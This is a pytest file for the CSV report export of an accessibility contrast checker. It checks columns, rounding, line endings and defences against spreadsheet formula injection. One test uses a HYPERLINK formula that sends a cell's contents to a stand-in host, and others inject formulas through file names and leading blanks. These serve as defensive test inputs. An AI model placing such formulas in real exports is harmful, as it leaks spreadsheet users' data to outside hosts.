"""The table, read by Python's own reader and by the letter of RFC 4180."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given

from januslens.accessibility.check import Fixes, Reason
from januslens.color.notation import Fix
from januslens.exports.reports.csv import write
from januslens.exports.reports.subject import Subject
from januslens.text.run import Size
from tests.januslens.exports.samples import CHECKS, EMPTY, FAILED, REPORT, few, subject, subjects


def table(of: Subject) -> io.StringIO:
    """The table as a reader of UTF-8 gets it, which drops a byte order mark."""
    return io.StringIO(write(of).encode().decode("utf-8-sig"), newline="")


def rows(of: Subject) -> list[dict[str, str]]:
    return list(csv.DictReader(table(of), strict=True))


def one(text: str) -> dict[str, str]:
    (row,) = rows(subject(replace(REPORT, checks=(replace(FAILED, text=text),))))
    return row


def test_a_check_is_a_row_with_all_that_was_measured() -> None:
    first, *_ = rows(subject())
    assert first == {
        "image": "sign-in@2x.png",
        "issue": "1",
        "rule": "text-contrast",
        "criterion": "1.4.3",
        "level": "AA",
        "outcome": "failed",
        "reason": "",
        "severity": "0.4",
        "x": "20",
        "y": "20",
        "width": "100",
        "height": "16",
        "text": "Forgot password?",
        "foreground": "#777777",
        "background": "#ffffff",
        "ratio": "4.47",
        "ratio_low": "4.47",
        "ratio_high": "4.48",
        "required": "4.5",
        "size": "14.0",
        "size_low": "12.9",
        "size_high": "15.2",
        "fix_foreground": "#707070",
        "fix_foreground_ratio": "4.95",
        "fix_background": "",
        "fix_background_ratio": "",
        "message": "Text #777777 on #ffffff has a contrast of 4.47:1; it needs 4.5:1.",
    }


def test_columns_come_in_this_order() -> None:
    assert next(csv.reader(table(subject(EMPTY)))) == [
        *("image", "issue", "rule", "criterion", "level", "outcome", "reason", "severity"),
        *("x", "y", "width", "height"),
        *("text", "foreground", "background", "ratio", "ratio_low", "ratio_high", "required"),
        *("size", "size_low", "size_high"),
        *("fix_foreground", "fix_foreground_ratio", "fix_background", "fix_background_ratio", "message"),
    ]


def test_measures_are_cut_and_rounded_so_that_they_claim_nothing_more() -> None:
    check = replace(
        FAILED,
        reason=Reason.GRADIENT,
        severity=0.12345,
        ratio=4.4999,
        interval=(4.4999, 4.5001),
        size=Size(14.06, 12.94, 15.26),
        fixes=Fixes(None, Fix((0, 0, 0), 7.999, 1.0)),
    )
    (row,) = rows(subject(replace(REPORT, checks=(check,))))
    written = {
        "reason": "bgGradient",
        "severity": "0.123",
        "ratio": "4.49",
        "ratio_low": "4.49",
        "ratio_high": "4.51",
        "size": "14.1",
        "size_low": "12.9",
        "size_high": "15.3",
        "fix_foreground": "",
        "fix_foreground_ratio": "",
        "fix_background": "#000000",
        "fix_background_ratio": "7.99",
    }
    assert {column: row[column] for column in written} == written


@few
@given(subjects)
def test_every_check_is_a_row_and_every_row_is_complete(of: Subject) -> None:
    read = rows(of)
    assert [row["outcome"] for row in read] == [check.outcome.value for check in of.report.checks]
    assert all(None not in row and None not in row.values() for row in read)


def test_checks_of_one_issue_have_its_number_in_the_reports_list() -> None:
    numbers = [row["issue"] for row in rows(subject())]
    for number, issue in enumerate(REPORT.issues, 1):
        assert [place for place, written in enumerate(numbers) if written == str(number)] == sorted(issue.places)
    assert numbers[len(CHECKS) - 3] == ""  # what passed is no issue


def test_lines_end_as_rfc_4180_says() -> None:
    text = write(subject())
    assert text.count("\r\n") == text.count("\n") == len(CHECKS) + 1


def test_a_report_of_nothing_has_its_header() -> None:
    assert rows(subject(EMPTY)) == []
    assert write(subject(EMPTY)).startswith('\ufeff"image","issue","rule","criterion","level","outcome",')


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_is_a_formula(start: str) -> None:
    formula = f'{start}HYPERLINK("http://a.example?x="&A1,"Click")'
    assert one(formula)["text"] == f"'{formula}"
    (row,) = rows(subject(replace(REPORT, checks=(FAILED,)), name=formula))
    assert row["image"] == f"'{formula}"


@pytest.mark.parametrize("blank", [" ", "   ", "\u00a0", "\u3000", "\x0b", " \t"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
def test_no_cell_is_a_formula_after_blanks(blank: str, sign: str) -> None:
    assert one(f"{blank}{sign}1+2")["text"] == f"'{blank}{sign}1+2"


def test_no_cell_begins_with_a_null_character() -> None:
    assert one("\0=1+2")["text"] == "'\0=1+2"


@pytest.mark.parametrize("name", ["report;=1+2;.png", 'report";=1+2;".png', "report\t=1+2\t.png"])
def test_a_reader_that_splits_elsewhere_finds_no_formula_within_a_field(name: str) -> None:
    written = table(subject(replace(REPORT, checks=(FAILED,)), name=name)).getvalue().splitlines()
    for delimiter in ";\t":
        fields = [field for row in csv.reader(written, delimiter=delimiter) for field in row]
        assert not [field for field in fields if field.startswith("=")]


@pytest.mark.parametrize("text", ["a, b", 'say "yes"', "two\nlines", "two\r\nlines", "a - b", "1=1", ""])
def test_other_text_is_read_back_as_it_was(text: str) -> None:
    assert one(text)["text"] == text
